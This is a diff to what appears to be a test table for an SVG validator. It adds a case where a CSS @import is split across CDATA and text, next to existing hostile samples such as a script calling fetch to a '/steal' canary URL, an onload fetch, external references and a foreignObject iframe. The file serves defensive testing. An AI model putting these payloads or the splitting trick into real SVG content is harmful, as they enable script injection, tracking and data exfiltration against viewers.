@@ -36,6 +36,7 @@ const BAD: [string, () => string, RegExp][] = [
   ['an external xlink:href in a <use>', () => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><use xlink:href="${canaryUrl}/s.svg#a"/></svg>`, /refers to an outside resource/],
   ['a CSS url() to the network', () => svg(`<rect width="9" height="9" style="fill: url('${canaryUrl}/p.png')"/>`), /refers to an outside resource \(url\(http/],
   ['a CSS @import', () => svg(`<style>@import "${canaryUrl}/x.css";</style>`), /imports a stylesheet \(@import in its <style>\)/],
+  ['an @import split across CDATA and text', () => svg(`<style><![CDATA[@imp]]>ort url(${canaryUrl}/y.css);</style>`), /imports a stylesheet/],
   ['a <script>', () => svg(`<script>fetch('${canaryUrl}/steal')</script><rect width="9" height="9"/>`), /has a <script> element, which is not allowed/],
   ['an event handler', () => svg(`<rect width="9" height="9" onload="fetch('${canaryUrl}/x')"/>`), /has an event handler attribute \(onload on <rect>\)/],
   ['a <foreignObject>', () => svg(`<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canaryUrl}/f"/></foreignObject>`), /has a <foreignObject> element/],
